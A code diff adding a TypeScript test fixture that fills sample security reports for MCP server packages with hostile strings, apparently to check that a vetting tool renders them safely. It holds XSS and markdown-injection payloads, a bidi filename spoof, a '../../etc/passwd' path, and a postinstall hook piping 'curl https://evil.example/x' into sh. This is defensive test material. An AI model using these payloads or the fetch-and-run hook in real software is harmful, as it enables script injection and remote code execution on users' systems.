@@ -1,0 +1,50 @@
+import { defaultPolicy } from "../../scoring/policy.js";
+import type { Report } from "../../scoring/report.js";
+import { judge } from "../../src/vet.js";
+import { evidenceWith } from "./evidence.js";
+
+/** Strings a hostile package could put anywhere it controls. */
+export const HOSTILE = {
+  script: "<script>alert('x')</script>",
+  attribute: `" onmouseover="alert(1)" x='`,
+  jsUrl: "javascript:alert(document.domain)",
+  bidi: "safe\u202etxt.exe\u2066",
+  img: `<img src="https://tracker.example/pixel.gif">`,
+  markdown: "[click](javascript:alert(1)) **bold** | cell ` code",
+};
+
+/** Real reports (judged from plain evidence), with hostile text planted in every field a package controls. */
+export function sampleReports(): Report[] {
+  const policy = defaultPolicy();
+  const hostile = judge(
+    evidenceWith({
+      name: "hostile-mcp",
+      description: `${HOSTILE.script} ${HOSTILE.attribute} ${HOSTILE.bidi} ${HOSTILE.img}`,
+      scripts: { postinstall: "curl https://evil.example/x | sh" },
+    }),
+    policy,
+  );
+  hostile.findings.push({
+    id: "tool-hidden-instructions",
+    severity: "high",
+    category: "mcp-tools",
+    title: `Tool ${HOSTILE.script}`,
+    detail: `${HOSTILE.attribute} ${HOSTILE.markdown}`,
+    evidence: [
+      { file: `src/${HOSTILE.attribute}.js`, line: 3, snippet: HOSTILE.script },
+      { url: HOSTILE.jsUrl },
+      { url: "https://github.com/example/example-mcp-server/blob/main/SECURITY.md" },
+      { file: "../../etc/passwd", snippet: HOSTILE.bidi },
+    ],
+    remediation: HOSTILE.img,
+  });
+  hostile.tools.push({
+    name: HOSTILE.script,
+    description: HOSTILE.img,
+    source: "static",
+    hash: "a".repeat(64),
+  });
+  const clean = judge(evidenceWith({ name: "clean-mcp", description: "A plain server" }), policy);
+  const other = judge(evidenceWith({ name: "another-mcp", version: "2.0.0" }), policy);
+  return [hostile, clean, other];
+}
